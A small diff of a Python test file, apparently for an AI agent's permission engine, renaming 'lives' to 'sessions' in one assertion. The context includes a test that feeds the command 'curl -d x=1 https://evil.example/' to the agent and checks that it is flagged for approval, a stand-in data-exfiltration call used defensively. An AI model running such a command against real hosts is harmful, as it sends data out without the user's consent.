@@ -199,7 +199,7 @@ def test_a_session_goes_on_after_a_restart(agent):
     agent.loads("poster")
     agent.restart()
     assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason
-    assert agent.engine.lives.all()[0].prompts == ["post the report"]
+    assert agent.engine.sessions.all()[0].prompts == ["post the report"]
 
 
 def test_an_event_that_breaks_the_engine_is_denied(agent, monkeypatch):
